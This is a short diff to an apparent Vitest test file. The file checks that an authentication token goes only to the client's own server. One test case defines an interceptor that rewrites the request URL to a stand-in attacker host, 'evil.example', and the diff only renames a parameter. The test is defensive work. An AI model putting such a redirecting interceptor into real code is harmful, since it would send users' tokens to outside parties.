@@ -76,7 +76,7 @@ describe("the token", () => {
     [
       "a layer that sends a call elsewhere",
       "/users",
-      [(next) => (exchange) => next({ ...exchange, url: "https://evil.example/users" })],
+      [(next) => (context) => next({ ...context, url: "https://evil.example/users" })],
     ],
   ])("goes nowhere but to the client's own server: %s", async (_, path, interceptors) => {
     const fetch = vi.fn<typeof globalThis.fetch>();
